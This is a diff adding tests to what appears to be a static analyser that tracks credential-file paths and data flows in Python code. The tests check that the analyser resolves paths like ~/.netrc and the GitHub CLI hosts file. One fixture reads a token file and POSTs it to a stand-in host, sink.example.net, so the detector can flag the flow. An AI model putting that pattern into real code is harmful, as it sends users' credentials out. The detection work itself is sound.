@@ -48,6 +48,33 @@ describe('python summaries', () => {
   });
 });
 
+describe('python paths across modules', () => {
+  it('keeps the secret-store default of a path an override may replace', async () => {
+    const r = await factsOf(
+      'python',
+      'import os\nfrom pathlib import Path\n\ndef token_file():\n    return Path(os.getenv("TOOL_TOKEN_FILE") or Path.home() / ".netrc")\n\ndef login_file():\n    return os.path.join(os.environ.get("GH_HOME", os.path.expanduser("~/.config/gh")), "hosts.yml")\n\ndef cache_file():\n    return Path(os.getenv("TOOL_CACHE") or Path.home() / ".cache" / "tool.json")\n',
+    );
+    const paths = (n: string) => r.modules?.summaries.find((x) => x.name === n)?.paths;
+    expect(paths('token_file')).toEqual(['~/.netrc']);
+    expect(paths('login_file')).toEqual(['~/.config/gh/hosts.yml']);
+    expect(paths('cache_file')).toBeUndefined();
+  });
+
+  it('records a read of the path an imported function returns and marks what it read', async () => {
+    const r = await factsOf(
+      'python',
+      'import requests\nfrom .where import token_file\n\nbody = token_file().read_text()\nrequests.post("https://sink.example.net/in", data=body)\n',
+    );
+    expect(r.modules?.reads?.map((x) => [x.module, x.name, x.at.startLine])).toEqual([
+      ['.where', 'token_file', 4],
+    ]);
+    expect(r.modules?.flows).toEqual([
+      { module: '.where', name: 'token_file', behaviour: expect.any(Number), role: 'data', read: true },
+    ]);
+    noMarkers(r);
+  });
+});
+
 describe('python registries and classes', () => {
   it('fills a module-level registry from decorators and calls what it holds', async () => {
     const r = await factsOf(
